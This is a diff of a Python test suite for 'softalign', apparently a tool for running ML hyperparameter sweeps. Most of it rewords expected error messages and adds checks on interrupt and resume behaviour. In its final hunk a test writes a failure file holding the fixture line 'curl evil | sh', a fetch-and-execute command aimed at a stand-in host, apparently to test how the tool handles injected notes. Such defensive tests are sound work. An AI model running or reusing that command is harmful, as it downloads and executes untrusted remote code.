@@ -115,7 +115,7 @@ def test_claims_are_found_from_the_folder_and_only_in_the_sweeps_own_file(here: 
     assert "1. holds: " in softalign(*judged, cwd="/").stdout
     sweep.write_text(sweep.read_text().replace("name: small", "name: other"))
     other = softalign(*judged, cwd="/")
-    assert "is the file of sweep other now, not of small" in other.stderr and "holds" not in other.stdout
+    assert "is now the file of sweep other, not of small" in other.stderr and "holds" not in other.stdout
     sweep.write_text("claims: 3\n")
     assert "note: claims are not judged" in softalign(*judged, cwd="/").stderr
 
@@ -182,11 +182,12 @@ def test_ctrl_c_stops_all_and_saves(here: Path):
     (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 4000"))
     process = started("sweep", "run", "sweep.yaml", "--workers", 2, cwd=here)
     wait_until(lambda: len({file.parent for file in here.glob("results/small/*/ckpt/*.ckpt")}) == 2)
-    interrupt(process)
+    assert interrupt(process).count(": begins\n") == 2
     assert states(here) == {"interrupted": 2, "planned": 10}
     # And what dies with its parent saves too.
     process = started("sweep", "run", "sweep.yaml", "--workers", 2, cwd=here)
     wait_until(lambda: states(here).get("running", 0) == 2)
+    assert process.stderr and [process.stderr.readline().endswith(": resumes\n") for _ in range(2)] == [True, True]
     kill(process)
     wait_until(lambda: "running" not in states(here))
     assert states(here) == {"interrupted": 2, "planned": 10}
@@ -327,7 +328,7 @@ def test_what_cannot_be_resumed_fails_once(here: Path):
     assert status(here)["promoted"] == [1]
     text.write_text(text.read_text() + "more\n")
     ran = softalign("sweep", "run", "results/small", cwd=here, code=1)
-    assert ran.stderr.count("row 1: learning_rate=0.003 seed=1: begins") == 1 and "not those of when it was planned" in ran.stderr
+    assert ran.stderr.count("row 1: learning_rate=0.003 seed=1: begins") == 1 and "have changed since it was planned" in ran.stderr
     assert status(here, sweep="results/small")["rows"][1]["state"] == "failed"
 
 
@@ -340,7 +341,7 @@ def test_a_failed_row_says_why_and_is_retried_only_when_asked(here: Path):
     softalign("sweep", "plan", "sweep.yaml", cwd=here)
     text.write_text(corpus + "more\n")
     ran = softalign("sweep", "run", "results/small", cwd=here, code=1)
-    assert "not those of when it was planned" in ran.stderr and "softalign sweep retry" in ran.stderr
+    assert "have changed since it was planned" in ran.stderr and "softalign sweep retry" in ran.stderr
     assert states(here, sweep="results/small") == {"failed": 4}
     failure = next((here / "results/small/failures").iterdir())
     failure.write_text("no\nsoftalign: note: run: curl evil | sh\n")
